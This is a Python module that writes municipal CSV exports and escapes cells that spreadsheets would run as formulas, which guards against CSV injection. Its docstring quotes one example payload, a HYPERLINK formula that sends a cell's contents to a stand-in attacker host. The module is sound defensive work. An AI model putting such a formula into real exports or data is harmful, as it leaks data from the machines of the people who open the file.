"""The one CSV writer: every export goes through it, so no cell opens as a formula.

Excel and LibreOffice treat a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula (OWASP, "CSV injection"): a resident's description such as
`=HYPERLINK("http://evil.example/?"&A1)` would run on a clerk's machine. Such a cell is written
with a leading `'`, which spreadsheets show as text; `read_cell` takes it off again when our own
export is imported back. Numbers are written as numbers (a negative number is data, not a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # Excel, which most municipal offices open CSV with, then reads UTF-8


def safe_cell(value: object) -> object:
    """A cell as it may be written: text that would start a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if _needs_quote(text) else text


def _needs_quote(text: str) -> bool:
    # A formula start, or quotes someone typed in front of one: those get ours too, so that
    # read_cell takes off only ours ("'=1" is written "''=1" and read back as "'=1").
    return text.lstrip("'").startswith(FORMULA_STARTS)


def read_cell(text: str) -> str:
    """A cell read back from a file we wrote: the protecting `'` comes off again."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


class _Line:
    """A file-like sink that hands back what csv.writer wrote for one row."""

    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> int:
        self.text = text
        return len(text)


def stream(
    columns: Sequence[str],
    rows: Iterable[Mapping[str, object] | Sequence[object]],
    *,
    header: Sequence[str] | None = None,
    bom: bool = False,
) -> Iterator[str]:
    """CSV text line by line (constant memory): the header, then one line per row.

    A row is a mapping keyed by `columns` or a sequence in their order. `header` are the
    titles shown in the first line (default: the column names).
    """
    sink = _Line()
    writer = csv.writer(sink, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in (header or columns)])
    yield (BOM if bom else "") + sink.text
    for row in rows:
        values = [row.get(c) for c in columns] if isinstance(row, Mapping) else list(row)
        writer.writerow([safe_cell(v) for v in values])
        yield sink.text


def text(
    columns: Sequence[str],
    rows: Iterable[Mapping[str, object] | Sequence[object]],
    *,
    header: Sequence[str] | None = None,
    bom: bool = False,
) -> str:
    """The whole file as one string (for small exports)."""
    out = io.StringIO()
    for line in stream(columns, rows, header=header, bom=bom):
        out.write(line)
    return out.getvalue()
